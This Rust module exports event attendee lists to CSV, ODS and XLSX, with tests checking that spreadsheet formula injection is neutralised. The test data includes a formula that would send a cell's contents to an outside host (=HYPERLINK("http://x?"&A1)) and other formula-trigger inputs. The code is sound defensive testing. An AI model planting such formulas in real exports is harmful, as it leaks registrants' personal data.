//! Attendee lists as CSV, ODS, XLSX and JSON. A session's list is bounded by its size, so it is
//! built in memory, with the crate's typed writers in `crate::export` (neutralised formulas in
//! CSV; ODS and XLSX cells typed, text never a formula).

use crate::export::{Cell, Column, Kind};
use crate::i18n::{Lang, session_admin as texts};
use inspraak_domain::session::{CancelReason, RegistrationState};
use inspraak_store::session::RegistrationRow;

/// The label of a sign-up's state.
pub fn state_label(lang: Lang, row: &RegistrationRow) -> &'static str {
    let t = texts::texts(lang);
    match (row.state, row.cancel_reason) {
        (RegistrationState::Pending, _) => t.state_pending,
        (RegistrationState::Confirmed, _) => t.state_confirmed,
        (RegistrationState::Waitlisted, _) => t.state_waitlisted,
        (RegistrationState::Cancelled, Some(CancelReason::Expired)) => t.state_expired,
        (RegistrationState::Cancelled, _) => t.state_cancelled,
    }
}

/// The columns of the list. Keys: `name`, `email`, `organisation`, `needs`, `state`
/// (`pending`, `confirmed`, `waitlisted`, `expired`, `cancelled`), `signed_up_at`, `attended`
/// (empty until attendance is recorded), `wants_report`.
pub fn columns(lang: Lang) -> Vec<Column> {
    let t = texts::texts(lang);
    vec![
        Column::new("name", t.col_name, Kind::Text),
        Column::new("email", t.col_email, Kind::Text),
        Column::new("organisation", t.col_organisation, Kind::Text),
        Column::new("needs", t.col_needs, Kind::LongText),
        Column::new("state", t.col_state, Kind::Text),
        Column::new("signed_up_at", t.col_signed_up, Kind::DateTime),
        Column::new("attended", t.col_attended, Kind::Flag),
        Column::new("wants_report", t.col_report, Kind::Flag),
    ]
}

/// The rows of the list: the sign-ups we still hold personal data of.
pub fn rows(lang: Lang, rows: &[RegistrationRow]) -> Vec<Vec<Cell>> {
    let t = texts::texts(lang);
    let flag = |b: bool| Cell::Flag(b, if b { t.yes } else { t.no });
    rows.iter()
        .filter_map(|row| {
            let person = row.registrant.as_ref()?;
            let code = match (row.state, row.cancel_reason) {
                (RegistrationState::Cancelled, Some(CancelReason::Expired)) => "expired",
                (state, _) => state.as_str(),
            };
            Some(vec![
                Cell::text(person.name.clone()),
                Cell::text(person.email.clone()),
                Cell::opt_text(person.organisation.clone()),
                Cell::opt_text(person.needs.clone()),
                Cell::Code {
                    code,
                    label: state_label(lang, row),
                },
                Cell::DateTime(row.created_at),
                row.attended.map_or(Cell::Empty, flag),
                flag(person.wants_report),
            ])
        })
        .collect()
}

pub use crate::export::{csv, neutralise, ods};

#[cfg(test)]
mod tests {
    use super::*;

    fn table() -> Vec<Vec<String>> {
        vec![
            vec!["Naam".into(), "Organisatie".into()],
            vec![
                "=HYPERLINK(\"http://x?\"&A1)".into(),
                "De \"Club\", Utrecht\r\nregel 2".into(),
            ],
            vec!["+31 6 1234".into(), "-5".into()],
            vec!["@SUM(A1)".into(), "\tgetabd".into()],
        ]
    }

    #[test]
    fn csv_cells_that_could_run_as_formulas_are_neutralised_and_columns_kept() {
        let bytes = csv(&table()).unwrap_or_default();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes.as_slice());
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|r| {
                r.map(|r| r.iter().map(str::to_owned).collect())
                    .unwrap_or_default()
            })
            .collect();
        assert_eq!(rows.len(), 4);
        assert!(rows.iter().all(|r| r.len() == 2));
        assert_eq!(rows[1][0], "'=HYPERLINK(\"http://x?\"&A1)");
        assert_eq!(rows[1][1], "De \"Club\", Utrecht\r\nregel 2");
        assert_eq!(rows[2], ["'+31 6 1234", "'-5"]);
        assert_eq!(rows[3], ["'@SUM(A1)", "'\tgetabd"]);
    }

    #[test]
    fn ods_is_a_zip_with_the_mimetype_first_and_text_cells_only() {
        let bytes = ods("Deelnemers <1>", &table()).unwrap_or_default();
        // The mimetype is the first entry, stored: readable at a fixed offset.
        assert_eq!(&bytes[30..38], b"mimetype");
        assert_eq!(
            &bytes[38..38 + "application/vnd.oasis.opendocument.spreadsheet".len()],
            b"application/vnd.oasis.opendocument.spreadsheet"
        );
        let text = String::from_utf8_lossy(&bytes);
        assert!(text.contains(r#"table:name="Deelnemers &lt;1&gt;""#));
        assert!(text.contains("=HYPERLINK(&quot;http://x?&quot;&amp;A1)"));
        assert!(!text.contains("table:formula"));
    }
}
